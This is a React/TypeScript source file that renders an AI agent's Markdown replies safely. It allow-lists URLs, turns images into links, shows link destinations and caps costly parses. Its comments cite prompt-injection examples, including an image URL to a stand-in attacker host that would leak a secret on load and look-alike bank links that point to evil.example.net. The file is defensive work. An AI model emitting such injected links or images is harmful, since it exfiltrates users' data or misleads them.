'use client';

import * as React from 'react';
import Markdown, { type Components, type ExtraProps, type Options, type UrlTransform } from 'react-markdown';
import remarkGfm from 'remark-gfm';
import { clientContext } from './clientContext.js';
import { LONG_TEXT, LongText } from './LongText.js';
import { useLocale } from './locale.js';
import {
  destinationShown,
  type HastAny,
  type HastElement,
  type HastText,
  placeOf,
  plainLinkWords,
  unnamed,
  wordsOf,
} from './markdownLinks.js';
import {
  footnotesTooMany,
  lastLineMayReread,
  listItemsTooMany,
  type MarkdownPiece,
  markdownPieces,
  nestsTooDeep,
  PIECES_FROM,
  rescansTooMuch,
  tableTooLarge,
} from './markdownPieces.js';
import { safeLinkHref, safeWebUrl } from './safeUrl.js';
import { autoDir, holdsLetter } from './textDirection.js';

// An agent's text is untrusted (a prompt injection writes it), so URLs are allow-listed: links may be
// http(s) or mailto, image sources http(s) only; anything else loses its URL and renders as plain text.
const urlTransform: UrlTransform = (url, key) => (key === 'href' ? safeLinkHref(url) : safeWebUrl(url));

/** Whether an element is inside a link of the reply: an image there is named in that link, not a link inside it. */
const InsideLink = clientContext(false);

const isMail = (href: string) => href.startsWith('mailto:');

type Level = 1 | 2 | 3 | 4 | 5 | 6;
type MarkdownStrings = ReturnType<typeof useLocale>['messages']['messages']['markdown'];

const level = (n: number): Level => Math.min(6, Math.max(1, n)) as Level;

/** The renderers of a reply's elements: safe links and images, tables that scroll, task boxes, headings from `base`. */
function componentsFor(strings: MarkdownStrings, base: Level): Components {
  const heading = (depth: number) => {
    const Tag = `h${level(base + depth - 1)}` as const;
    return ({ node: _node, ...rest }: React.HTMLAttributes<HTMLHeadingElement> & { node?: unknown }) => <Tag dir="auto" {...rest} />;
  };
  // Each block of text takes the direction of its own first letter: an Arabic paragraph after an English one reads
  // right to left. Only blocks that hold a letter themselves: one with none (a number, an emoji), or whose text is all
  // in children with a `dir` of their own (a quote; a list item of paragraphs), would read left to right whatever the
  // page; those follow the page (textDirection.ts).
  const auto =
    <Tag extends 'p' | 'li' | 'td' | 'th'>(Tag: Tag) =>
    ({ node, ...rest }: React.HTMLAttributes<HTMLElement> & ExtraProps) =>
      React.createElement(Tag, { ...(holdsLetter(node) && !holdsParagraphs(node) ? { dir: 'auto' } : {}), ...rest });
  return {
    p: auto('p'),
    li: auto('li'),
    td: auto('td'),
    th: auto('th'),
    // A link with nothing to see or hear (`[](https://…)`) shows where it goes as its words. An email link opens the
    // mail client, not a tab. A `dir` makes the link an island of direction of its own: a direction control in the
    // text before it (`‮[moc.lapyap ta ni ngiS](…)`) cannot run on into its words and reverse them.
    a: ({ node, href, children, ...rest }) =>
      href ? (
        <a {...rest} href={href} dir="auto" {...(isMail(href) ? {} : { target: '_blank', rel: 'noopener noreferrer' })}>
          <InsideLink.Provider value={true}>{children}</InsideLink.Provider>
          {unnamed(node) ? (
            <bdi dir="ltr" className="agk-markdown__destination">
              {placeOf(href)}
            </bdi>
          ) : (
            <Destination words={wordsOf(node)} title={rest.title} href={href} strings={strings} />
          )}
          {isMail(href) ? null : <span className="agk-visually-hidden">{strings.newTab}</span>}
        </a>
      ) : (
        <span className="agk-markdown__unlinked">{children}</span>
      ),
    // An image the agent names is a link, never loaded by itself: a loaded URL could carry data out of the
    // conversation (an injected `![](https://attacker/?q=secret)`) without anyone clicking anything.
    img: ({ src, alt }) => <ImageLink src={src} alt={alt} strings={strings} />,
    pre: ({ node: _node, ...rest }) => <CodeFrame {...rest} />,
    table: ({ node: _node, ...rest }) => <TableFrame {...rest} label={strings.table} />,
    // A task list's box says whether the item is done; it is not a control anyone can tick.
    input: ({ type, checked }) =>
      type === 'checkbox' ? (
        <span className="agk-markdown__task" role="img" aria-label={checked ? strings.taskDone : strings.taskNotDone}>
          {checked ? '☑' : '☐'}
        </span>
      ) : null,
    // A reply sits inside the page's outline: its `#` is one level below the heading above the conversation.
    h1: heading(1),
    h2: heading(2),
    h3: heading(3),
    h4: heading(4),
    h5: heading(5),
    h6: heading(6),
  };
}

/**
 * Where a link goes, shown beside its words when they name another place: a
 * prompt injection writes `[https://bank.example.com/login](https://evil.example.net/x)`
 * for the reader to trust the words. Shown too when the address holds a user
 * name (`https://bank.example.com@evil.example.net/`, which goes to
 * evil.example.net), or when its title (the tooltip a pointer shows) names
 * another site. A host is shown as the browser resolves it (a
 * look-alike letter as `xn--`), left to right whatever the text around it.
 */
function Destination({
  words,
  title,
  href,
  strings,
}: {
  words: string;
  title?: string | undefined;
  href: string;
  strings: MarkdownStrings;
}) {
  const shown = destinationShown(words, href, title);
  return shown ? (
    <>
      {' '}
      <span className="agk-visually-hidden">{strings.goesTo}</span>
      <bdi dir="ltr" className="agk-markdown__destination">
        {shown}
      </bdi>
    </>
  ) : null;
}

/** An image the agent names: a link to it, or, inside a link, its name alone. */
function ImageLink({ src, alt, strings }: { src: unknown; alt: string | undefined; strings: MarkdownStrings }) {
  const insideLink = React.useContext(InsideLink);
  const name = alt || (typeof src === 'string' ? src : '');
  if (insideLink) return <span>{name ? strings.image(name) : strings.imageUntitled}</span>;
  if (typeof src !== 'string' || !src)
    return <span className="agk-markdown__unlinked">{alt ? strings.image(alt) : strings.imageUntitled}</span>;
  return (
    <a href={src} dir="auto" target="_blank" rel="noopener noreferrer" className="agk-markdown__image-link">
      {strings.image(alt || src)}
      <Destination words={alt ?? ''} href={src} strings={strings} />
      <span className="agk-visually-hidden">{strings.newTab}</span>
    </a>
  );
}

/** A code block's frame. */
function CodeFrame(props: React.HTMLAttributes<HTMLPreElement>) {
  return <pre {...props} className="agk-code agk-markdown__code" />;
}

/** A table's frame: a wide table scrolls inside the reply; the keyboard reaches the scroll area too. */
function TableFrame({ label, ...rest }: React.TableHTMLAttributes<HTMLTableElement> & { label: string }) {
  return (
    // biome-ignore lint/a11y/noNoninteractiveTabindex: a scrollable region must be focusable to be scrolled without a mouse
    <section className="agk-markdown__table" aria-label={label} tabIndex={0}>
      <table {...rest} />
    </section>
  );
}

const remarkPlugins: Options['remarkPlugins'] = [remarkGfm];

type HastNode = { tagName?: string; properties?: Record<string, unknown>; children?: HastNode[] };

const holdsParagraphs = (node: { children?: readonly object[] } | undefined) =>
  node?.children?.some((child) => (child as HastNode).tagName === 'p') ?? false;
const FOOTNOTE_LABEL = 'footnote-label';

/**
 * Footnote ids carry the message's prefix (`clobberPrefix`), except the
 * footnotes heading's, which is always `footnote-label`: this gives it the
 * prefix too, and the references that point to it.
 */
const prefixFootnoteLabel = (prefix: string) => () => (tree: HastNode) => {
  const walk = (node: HastNode) => {
    const p = node.properties;
    if (p) {
      if (p.id === FOOTNOTE_LABEL) p.id = prefix + FOOTNOTE_LABEL;
      if (Array.isArray(p.ariaDescribedBy)) p.ariaDescribedBy = p.ariaDescribedBy.map((id) => (id === FOOTNOTE_LABEL ? prefix + id : id));
    }
    for (const child of node.children ?? []) walk(child);
  };
  walk(tree);
};

/** What every piece of a reply renders with: the same for the whole text and for each piece. */
type Render = Pick<Options, 'components' | 'remarkRehypeOptions' | 'rehypePlugins'>;

/**
 * A rehype plugin that keeps, in place of the tree, the elements found
 * along `path` (a tag name a level): a list's items, a table's head or its
 * row, drawn inside a frame the reply draws once. A path that finds nothing
 * leaves the tree as it is, so no text is ever lost.
 */
const pick =
  (path: readonly string[], last = false) =>
  () =>
  (tree: HastNode) => {
    let nodes: HastNode[] = [tree];
    for (const tag of path) nodes = nodes.flatMap((node) => (node.children ?? []).filter((child) => child.tagName === tag));
    if (nodes.length) tree.children = last ? nodes.slice(-1) : nodes;
  };

/** The renderings of a reply's pieces: whole blocks, runs of a paragraph, list items, a table's head and rows. */
type Renders = Record<'blocks' | 'inline' | 'ul' | 'ol' | 'looseUl' | 'looseOl' | 'head' | 'row', Render> & { tableLabel: string };

/**
 * One piece of a reply, parsed again only when its own text changes; shown as
 * `plain` (by default its text) when it cannot be shown as Markdown.
 */
const Piece = React.memo(function Piece({ text, render, plain = text }: { text: string; render: Render; plain?: string }) {
  // A table too large is never parsed: its check costs a pass over the text, the marks' may cost a parse.
  const shownPlain = React.useRef<string | undefined>(undefined);
  const costly = React.useRef<string | undefined>(undefined);
  const plainOnly = React.useMemo(() => {
    // What the parser goes over again and again only grows as a text does: a piece shown as text for it stays so while
    // it streams, whatever its last token (a backtick that closes a run above, a line that opens a fence).
    const wasCostly = costly.current !== undefined && text.startsWith(costly.current);
    if (wasCostly || rescansTooMuch(text) || footnotesTooMany(text)) {
      if (!wasCostly) costly.current = text;
      shownPlain.current = text;
      return true;
    }
    costly.current = undefined;
    // A piece shown as text stays so while its last line grows (a streaming reply's tokens): its lines before are as
    // they were, and checking them cost a parse at every token (2 s at 500 KB). A new line, which may start a table,
    // end a paragraph or show that a code span closed on the line above, is checked again, and so is a token that may
    // close on its line what opened above (a code span's backtick) or make that line a table's delimiter row.
    const before = shownPlain.current;
    const grew = before !== undefined && text.startsWith(before) && !text.includes('\n', before.length);
    const plain = (grew && !lastLineMayReread(before, text)) || tableTooLarge(text) || marksTooMany(text);
    shownPlain.current = plain ? text : undefined;
    return plain;
  }, [text]);
  if (plainOnly)
    return (
      <span className="agk-markdown__plain" dir={autoDir(plain)}>
        {plain}
      </span>
    );
  return (
    <PieceBoundary text={plain}>
      <Markdown skipHtml urlTransform={urlTransform} remarkPlugins={remarkPlugins} {...render}>
        {text}
      </Markdown>
    </PieceBoundary>
  );
});

/**
 * The most emphasis marks (`*`, `_`, `~`) one paragraph, heading or table
 * cell may hold: they are paired in time that grows with the square of their
 * count (a paragraph of 80 KB of `*a*a*a*a` lines took over half a minute).
 */
const MAX_INLINE_MARKS = 1_000;

const isMark = (c: number) => c === 42 /* * */ || c === 95 /* _ */ || c === 126; /* ~ */

function marksIn(text: string, from = 0, to = text.length): number {
  let count = 0;
  for (let i = from; i < to; i++) if (isMark(text.charCodeAt(i))) count++;
  return count;
}

type MdastNode = { type: string; position?: { start: { offset?: number }; end: { offset?: number } }; children?: MdastNode[] };

/**
 * The marks of a paragraph, heading or cell that emphasis may pair: those in
 * its text, not in a code span (`` `*.ts` ``), an HTML tag nor escaped
 * (`\*`), which pair with nothing.
 */
function pairedMarksIn(text: string, holder: MdastNode): number {
  let count = 0;
  const walk = (node: MdastNode) => {
    const start = node.position?.start.offset;
    const end = node.position?.end.offset;
    if (node.type === 'inlineCode' || node.type === 'html' || start === undefined || end === undefined) return;
    if (node.children) {
      for (const child of node.children) walk(child);
      return;
    }
    // Anything else is counted as written (an image's text is parsed for emphasis too).
    if (node.type !== 'text') {
      count += marksIn(text, start, end);
      return;
    }
    // A text node's range holds its escapes as written: a backslash takes the character after it.
    for (let i = start; i < end; i++) {
      const c = text.charCodeAt(i);
      if (c === 92 /* \ */) i++;
      else if (isMark(c)) count++;
    }
  };
  for (const child of holder.children ?? []) walk(child);
  return count;
}

const BLANK_LINE = /\n[ \t]*\n/;
const INLINE_HOLDERS = new Set(['paragraph', 'heading', 'tableCell']);

/** A remark plugin: emphasis and strikethrough are not parsed (the blocks are, in linear time). */
function withoutEmphasis(this: unknown) {
  const data = (this as { data(): { micromarkExtensions?: unknown[] } }).data();
  data.micromarkExtensions = [...(data.micromarkExtensions ?? []), { disable: { null: ['attention', 'strikethrough'] } }];
}

/**
 * Whether a paragraph, heading or table cell of `text` holds more than
 * MAX_INLINE_MARKS emphasis marks. A text with no more than that in all costs
 * a count; one with more is parsed for its blocks alone (emphasis left out),
 * and each block's marks counted.
 */
function marksTooMany(text: string): boolean {
  if (marksIn(text) <= MAX_INLINE_MARKS) return false;
  // None of them holds a blank line: a text whose stretches between blank lines each hold no more needs no parse (a
  // streaming reply's last piece is checked at every frame).
  if (text.split(BLANK_LINE).every((stretch) => marksIn(stretch) <= MAX_INLINE_MARKS)) return false;
  let found = false;
  const inspect = () => (tree: MdastNode) => {
    const walk = (node: MdastNode) => {
      const start = node.position?.start.offset;
      const end = node.position?.end.offset;
      if (INLINE_HOLDERS.has(node.type) && start !== undefined && end !== undefined) {
        if (marksIn(text, start, end) > MAX_INLINE_MARKS && pairedMarksIn(text, node) > MAX_INLINE_MARKS) found = true;
        return;
      }
      for (const child of node.children ?? []) if (!found) walk(child);
    };
    walk(tree);
    // Nothing left to turn into elements: the blocks were all this parse was for.
    tree.children = [];
  };
  try {
    Markdown({ children: text, skipHtml: true, remarkPlugins: [remarkGfm, withoutEmphasis, inspect] });
  } catch {
    // Blocks the parser cannot take are shown as text by PieceBoundary.
  }
  return found;
}

/**
 * Shows a piece as plain text when its Markdown throws as it renders (a
 * construct the parser's recursion cannot take that `nestsTooDeep` did not
 * foresee): one reply reads as text, rather than an uncaught error
 * unmounting the application. A new text is tried as Markdown again.
 */
export class PieceBoundary extends React.Component<{ text: string; children: React.ReactNode }, { failed: boolean }> {
  override state = { failed: false };
  static getDerivedStateFromError(): { failed: boolean } {
    return { failed: true };
  }
  override componentDidUpdate(previous: { text: string }): void {
    if (this.state.failed && previous.text !== this.props.text) this.setState({ failed: false });
  }
  override render(): React.ReactNode {
    return this.state.failed ? <span className="agk-markdown__plain">{this.props.text}</span> : this.props.children;
  }
}

/**
 * The Markdown renderer `SafeMarkdown` loads on demand (this module, with
 * react-markdown and remark-gfm, is a chunk of its own): raw HTML dropped,
 * URLs allow-listed, images as links, a `#` heading at `headingLevel`
 * (default 3) and the others below it, footnote ids under `idPrefix`.
 *
 * A reply that nests quotes or lists more than 32 deep renders as plain text
 * (`nestsTooDeep`), and so does a piece with a paragraph, heading or table
 * cell of more than 1,000 emphasis marks (`*`, `_`, `~`; not in a code span,
 * not escaped), whose pairing
 * takes time that grows with the square of their count, or a table of more
 * than 1,000 cells (`tableTooLarge`: each costs a parse and an element, so
 * tens of thousands freeze the page for seconds), or one the parser would go
 * over again and again (`rescansTooMuch`: backtick runs nothing closes, `]`
 * no `[` opened) or of more than 500 footnotes (`footnotesTooMany`); those
 * two stay text while the piece grows. A reply not growing that holds such a
 * table or paragraph renders in pieces all the same, so only that piece
 * shows as text, as while it streamed. A link whose words
 * or title name another site than the one it goes to shows that site's host beside
 * them, and a link's words lose their direction controls. A growing reply of `piecesFrom` characters or more (1,000
 * by default) renders in pieces, each memoized on its text
 * (`markdownPieces`): what shows is the same, and a streaming reply
 * re-parses only its last piece at each frame. A reply that has not changed
 * since it was first shown (a conversation opened) renders whole: each piece
 * costs a parse of its own, about as much again as its text's, and pieces
 * pay off only while the text grows (`piecedAtOnce` cuts it from the start).
 *
 * A text over `longFrom` characters (`LONG_TEXT`, 100,000, by default) shows
 * its beginning as plain text with *Show all* (`LongText`), unless all but
 * its last `longFrom` characters begin the last text this rendered as
 * Markdown: a streaming reply stays Markdown, one opened whole or replaced at
 * once is never parsed.
 */
export function MarkdownBody({
  text,
  idPrefix,
  headingLevel = 3,
  piecesFrom = PIECES_FROM,
  piecedAtOnce = false,
  longFrom = LONG_TEXT,
}: {
  text: string;
  idPrefix: string;
  headingLevel?: number;
  piecesFrom?: number;
  piecedAtOnce?: boolean;
  longFrom?: number;
}) {
  const [firstText] = React.useState(text);
  const growing = piecedAtOnce || text !== firstText;
  // The text the last render showed as Markdown, if it did: what a new text may differ from and stay Markdown. Kept
  // in state set while rendering (not in an effect), so a render inside a hidden Activity, whose effects wait, counts.
  const [parsedLast, setParsedLast] = React.useState<string | undefined>(undefined);
  const strings = useLocale().messages.messages.markdown;
  const renders = React.useMemo<Renders>(() => {
    const blocks: Render = {
      components: componentsFor(strings, level(headingLevel)),
      remarkRehypeOptions: { clobberPrefix: idPrefix },
      rehypePlugins: [prefixFootnoteLabel(idPrefix), plainLinkWords],
    };
    const within = (path: string[], last = false): Render => ({
      ...blocks,
      rehypePlugins: [prefixFootnoteLabel(idPrefix), plainLinkWords, pick(path, last)],
    });
    return {
      blocks,
      // A run of sentences renders its words only: the paragraph around the runs is drawn once.
      inline: { ...blocks, components: { ...blocks.components, p: InlineRun } },
      ul: within(['ul', 'li']),
      ol: within(['ol', 'li']),
      // An item of a loose list is parsed after an item that makes the list loose (markdownPieces): the last is the one.
      looseUl: within(['ul', 'li'], true),
      looseOl: within(['ol', 'li'], true),
      head: within(['table', 'thead']),
      row: within(['table', 'tbody', 'tr']),
      tableLabel: strings.table,
    };
  }, [strings, headingLevel, idPrefix]);
  const long = text.length > longFrom && !(parsedLast !== undefined && littleChanged(parsedLast, text, longFrom));
  const deep = React.useMemo(() => !long && nestsTooDeep(text), [long, text]);
  // A reply shown whole that would show as text for a piece of it (a table too large, a paragraph the parser goes over
  // again and again) is cut as it was while it streamed: only that piece shows as text.
  const pieces = React.useMemo(
    () => (deep || !(growing || tableTooLarge(text) || rescansTooMuch(text)) ? undefined : markdownPieces(text, piecesFrom)),
    [deep, growing, text, piecesFrom],
  );
  const shownAs = long || deep ? undefined : text;
  if (shownAs !== parsedLast) setParsedLast(shownAs);
  // Too long to parse and lay out at once: its beginning as text, the rest on demand. A reply that grew to that
  // length as it streamed stays in its pieces, each parsed once; one shown cut stays cut whatever comes next.
  if (long) return <LongText text={text} limit={longFrom} />;
  if (deep)
    return (
      <p className="agk-markdown__plain" dir={autoDir(text)}>
        {text}
      </p>
    );
  if (!pieces) return <Piece text={text} render={renders.blocks} />;
  return pieces.map((piece, i) => (
    // biome-ignore lint/suspicious/noArrayIndexKey: pieces only ever grow at the end, so an index names the same piece
    <React.Fragment key={i}>
      {/* The line break the whole text's rendering has between two blocks. */}
      {i ? '\n' : null}
      <PieceView piece={piece} renders={renders} />
    </React.Fragment>
  ));
}

/**
 * Whether all but the last `limit` characters of `text` begin `before`: the
 * pieces are memoized on their text, so parsing it costs no more than
 * parsing `limit` characters (a token, a step of the replay scrubber either
 * way), unlike a text that arrived whole or was replaced.
 */
function littleChanged(before: string, text: string, limit: number): boolean {
  const kept = text.length - limit;
  return kept <= 0 || (before.length >= kept && text.startsWith(before.slice(0, kept)));
}

/** One piece of a reply, in the frame the whole text's rendering gives it; the parts inside are memoized on their text. */
function PieceView({ piece, renders }: { piece: MarkdownPiece; renders: Renders }): React.ReactNode {
  // Parts only ever grow at the end, so an index names the same part (the keys below).
  switch (piece.type) {
    case 'blocks':
      return <Piece text={piece.text} render={renders.blocks} />;
    case 'paragraph':
      return (
        // A paragraph is cut into runs only where its plain runs hold a letter (markdownPieces).
        <p dir="auto">
          {piece.sentences.map((sentence, j) => (
            // biome-ignore lint/suspicious/noArrayIndexKey: as above
            <React.Fragment key={j}>
              {j ? ' ' : null}
              <Piece text={sentence} render={renders.inline} />
            </React.Fragment>
          ))}
        </p>
      );
    case 'list': {
      const items = piece.items.map((item, j) => (
        // biome-ignore lint/suspicious/noArrayIndexKey: as above
        <React.Fragment key={j}>
          {'\n'}
          {piece.loose ? (
            <Piece text={`${piece.loose.leader}\n\n${item}`} plain={item} render={piece.ordered ? renders.looseOl : renders.looseUl} />
          ) : (
            <Piece text={item} render={piece.ordered ? renders.ol : renders.ul} />
          )}
        </React.Fragment>
      ));
      return piece.ordered ? (
        <ol start={piece.start === 1 ? undefined : piece.start}>
          {items}
          {'\n'}
        </ol>
      ) : (
        <ul>
          {items}
          {'\n'}
        </ul>
      );
    }
    case 'table': {
      // Cut into rows or not, a table of more than MAX_TABLE_CELLS cells shows as its text.
      const whole = tableTooLarge(`${piece.head}\n${piece.rows.join('\n')}`) ? [piece.head, ...piece.rows].join('\n') : undefined;
      if (whole !== undefined)
        return (
          <span className="agk-markdown__plain" dir={autoDir(whole)}>
            {whole}
          </span>
        );
      return (
        <TableFrame label={renders.tableLabel}>
          <Piece text={piece.head} render={renders.head} />
          {piece.rows.length ? (
            <tbody>
              {piece.rows.map((row, j) => (
                // biome-ignore lint/suspicious/noArrayIndexKey: as above
                <Piece key={j} text={`${piece.frame}\n${row}`} plain={row} render={renders.row} />
              ))}
            </tbody>
          ) : null}
        </TableFrame>
      );
    }
    case 'quote': {
      // A quote's paragraphs cut into runs of lines (markdownPieces), the quotes drawn around them as the whole text's are.
      let quote: React.ReactNode = piece.paragraphs.map((runs, k) => (
        // biome-ignore lint/suspicious/noArrayIndexKey: as above
        <React.Fragment key={k}>
          {k ? '\n' : null}
          <p dir="auto">
            {runs.map((run, j) => (
              // biome-ignore lint/suspicious/noArrayIndexKey: as above
              <React.Fragment key={j}>
                {j ? '\n' : null}
                <Piece text={run} render={renders.inline} />
              </React.Fragment>
            ))}
          </p>
        </React.Fragment>
      ));
      for (let depth = 0; depth < piece.depth; depth++)
        quote = (
          <blockquote>
            {'\n'}
            {quote}
            {'\n'}
          </blockquote>
        );
      return quote;
    }
    case 'quoted':
      // What a quote holds, in pieces as a reply's are, the quote drawn around them as the whole text's is.
      return (
        <blockquote>
          {'\n'}
          {piece.pieces.map((inner, j) => (
            // biome-ignore lint/suspicious/noArrayIndexKey: as above
            <React.Fragment key={j}>
              {j ? '\n' : null}
              <PieceView piece={inner} renders={renders} />
            </React.Fragment>
          ))}
          {'\n'}
        </blockquote>
      );
    case 'code':
      return (
        <CodeFrame>
          <code className={piece.language ? `language-${piece.language}` : undefined}>{piece.code}</code>
        </CodeFrame>
      );
  }
}

function InlineRun({ children }: { children?: React.ReactNode }) {
  return children;
}

const BLOCKS = new Set(['p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'li', 'blockquote', 'pre', 'tr', 'table', 'ul', 'ol', 'hr', 'br', 'div']);

/** The words of a hast tree as a listener hears them: no syntax, table cells separated, blocks apart. */
function spoken(node: HastAny): string {
  if (node.type === 'text') return (node as HastText).value;
  if (node.type !== 'element' && node.type !== 'root') return '';
  const el = node as HastElement;
  const p = el.properties ?? {};
  // Footnote back-links ("↩") and the footnotes section are for the eye; the reply's own words are enough.
  if ('dataFootnoteBackref' in p || 'dataFootnotes' in p) return '';
  // An image without words shows its address, and a link without words where it goes (componentsFor).
  if (el.tagName === 'img') return (typeof p.alt === 'string' && p.alt) || (typeof p.src === 'string' ? p.src : '');
  if (el.tagName === 'a' && typeof p.href === 'string' && unnamed(el)) return placeOf(p.href);
  const children = el.children ?? [];
  if (el.tagName === 'tr') {
    return `${children
      .filter((c) => c.type === 'element')
      .map((c) => spoken(c).trim())
      .join(', ')}.\n`;
  }
  const inner = children.map(spoken).join('');
  return BLOCKS.has(el.tagName) ? `\n${inner}\n` : inner;
}

/**
 * Markdown as plain text, for a screen reader's announcement: what the
 * renderer shows, without `**`, link syntax or table pipes (a table reads
 * row by row, its cells separated by commas), with the same safety rules
 * (raw HTML dropped). A text the renderer would show as text is said as
 * written, and so is one past 100,000 characters (`LONG_TEXT`) or of more
 * than 1,000 list items (`listItemsTooMany`), which take seconds to parse:
 * the announcer passes the first 4,000 characters or so of a reply.
 *
 * @example
 * markdownToText('**Refund issued** for [order A-1001](https://shop.example/o/1).'); // 'Refund issued for order A-1001.'
 */
export function markdownToText(text: string): string {
  // Past LONG_TEXT, a reply opened whole shows as text too (MarkdownBody): parsing it takes seconds, and a list of many
  // items nested in one another takes time that grows with the square of their count (listItemsTooMany).
  if (text.length > LONG_TEXT || nestsTooDeep(text) || tableTooLarge(text) || listItemsTooMany(text) || marksTooMany(text)) return text;
  let tree: HastAny | undefined;
  const capture = () => (root: HastAny) => {
    tree = root;
  };
  try {
    // The synchronous renderer runs its whole pipeline when called; the tree is taken before it becomes React elements.
    Markdown({ children: text, skipHtml: true, urlTransform, remarkPlugins, rehypePlugins: [capture] });
  } catch {
    // Markdown the parser cannot take (see PieceBoundary) is spoken as the text it is.
    return text;
  }
  if (!tree) return text;
  return spoken(tree)
    .split('\n')
    .map((line) => line.replace(/\s+/g, ' ').trim())
    .filter(Boolean)
    .join(' ');
}
